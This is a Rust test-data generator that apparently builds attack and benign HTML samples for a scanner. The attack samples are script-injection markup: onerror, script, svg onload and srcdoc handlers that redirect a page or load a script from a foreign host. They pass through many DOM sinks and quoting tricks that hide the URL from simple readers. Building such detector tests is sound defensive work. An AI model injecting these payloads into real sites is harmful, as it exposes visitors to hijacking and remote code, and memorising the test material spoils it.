//! Code inside markup strings (B4, issue 14 class 3; suite `markup_string_scripts`): a
//! script writes markup whose own code navigates or loads from a foreign host: an
//! `onerror` handler, a `<script>` element, an `<svg onload>`, an iframe's `srcdoc`, a
//! handler that adds a script element. The markup is a string literal (single, double or
//! template quotes, or split into two concatenated parts, or held in a variable first)
//! given to `innerHTML`, `outerHTML`, `insertAdjacentHTML`, `document.write`,
//! `createContextualFragment`, `DOMParser`, jQuery's `.html()`/`.append()`/`appendTo`, or
//! an iframe's `srcdoc` (property or attribute). No literal of the script is a foreign URL
//! the way a URL reader finds one: only the markup's code names it.
//!
//! The benign twins: the same sinks writing harmless markup (same-site and allowed links,
//! a logo that hides itself on error, a clock script, a greeting in `srcdoc`), byte for
//! byte.

use super::rng::Rng;
use super::{Kind, Payload, Template};

const fn t(name: &'static str, kind: Kind, make: fn(&mut Rng) -> Payload) -> Template {
    let benign = matches!(kind, Kind::Benign);
    Template {
        family: if benign { "benign" } else { "B4" },
        class: if benign { 0 } else { 3 },
        name,
        kind,
        active: true,
        make,
    }
}

pub const TEMPLATES: &[Template] = &[t("markup-string-code", Kind::Script, attack)];

pub const BENIGN: &[Template] = &[t("markup-string-same-site", Kind::Benign, same_site)];

/// Sinks, `@M` the markup expression.
const SINKS: &[&str] = &[
    "document.getElementById('box').innerHTML=@M",
    "document.body.innerHTML+=@M",
    "document.getElementById('box').outerHTML=@M",
    "document.body.insertAdjacentHTML('beforeend',@M)",
    "document.getElementById('box').insertAdjacentHTML(\"afterbegin\",@M)",
    "document.write(@M)",
    "document.body.appendChild(document.createRange().createContextualFragment(@M))",
    "var d=new DOMParser().parseFromString(@M,'text/html');document.body.appendChild(d.body.firstChild)",
    "$('#box').html(@M)",
    "jQuery('body').append(@M)",
    "$(@M).appendTo('body')",
    "var f=document.createElement('iframe');f.srcdoc=@M;document.body.appendChild(f)",
    "document.getElementById('fr').setAttribute('srcdoc',@M)",
];

/// Markup whose code goes to `{u}` (a foreign URL naming the marker).
const MARKUPS: &[&str] = &[
    "<img src=x onerror=\"location='{u}'\">",
    "<img src=\"x\" onerror=\"top.location.href='{u}'\">",
    "<script>location.replace('{u}')</script>",
    "<SCRIPT type=\"text/javascript\">window.location=\"{u}\"</SCRIPT>",
    "<svg onload=\"location.assign('{u}')\"></svg>",
    "<iframe srcdoc=\"&lt;script&gt;top.location='{u}'&lt;/script&gt;\"></iframe>",
    "<img src=x onerror=\"var s=document.createElement('script');s.src='{u}';document.head.appendChild(s)\">",
    "<input autofocus onfocus=\"location='{u}'\">",
];

/// Harmless markup through the same sinks.
const HARMLESS: &[&str] = &[
    "<a href=\"/tin-tuc/moi\">Tin mới</a>",
    "<img src=\"/images/logo.png\" alt=\"Logo\" onerror=\"this.style.display='none'\">",
    "<span id=\"clock\"></span><script>document.getElementById('clock').textContent=new Date().getFullYear()</script>",
    "<a href=\"https://chinhphu.vn/\" onclick=\"this.blur()\">Chính phủ</a>",
    "<p>Xin chào</p>",
    "<button type=\"button\" onclick=\"this.parentNode.classList.toggle('open')\">Menu</button>",
];

/// `m` as a JavaScript expression: quoted one of several ways, maybe split in two.
fn literal(r: &mut Rng, m: &str) -> (String, String) {
    let m = m.replace("</", "<\\/");
    let single = |s: &str| format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"));
    let double = |s: &str| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""));
    match r.below(5) {
        0 => (String::new(), single(&m)),
        1 => (String::new(), double(&m)),
        2 => (
            String::new(),
            format!(
                "`{}`",
                m.replace('\\', "\\\\")
                    .replace('`', "\\`")
                    .replace("${", "\\${")
            ),
        ),
        3 => {
            let cut = m.char_indices().map(|(i, _)| i).nth(m.chars().count() / 2);
            let (a, b) = m.split_at(cut.unwrap_or(0));
            (String::new(), format!("{}+{}", single(a), single(b)))
        }
        _ => (format!("var h={};", single(&m)), "h".to_string()),
    }
}

fn page(r: &mut Rng, markup: &str) -> String {
    let (setup, expr) = literal(r, markup);
    let sink = r.pick(SINKS).replace("@M", &expr);
    format!(
        "<div id=\"box\"></div><iframe id=\"fr\" title=\"khung\"></iframe><script>{setup}{sink}</script>"
    )
}

fn attack(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let u = match r.below(3) {
        0 => format!("https://{host}/?{m}"),
        1 => format!("//{host}/{m}"),
        _ => format!("http://{host}/{m}.js"),
    };
    let markup = r.pick(MARKUPS).replace("{u}", &u);
    Payload {
        html: page(r, &markup),
        planted: vec![m],
        ..Default::default()
    }
}

fn same_site(r: &mut Rng) -> Payload {
    let markup = *r.pick(HARMLESS);
    Payload {
        html: page(r, markup),
        ..Default::default()
    }
}
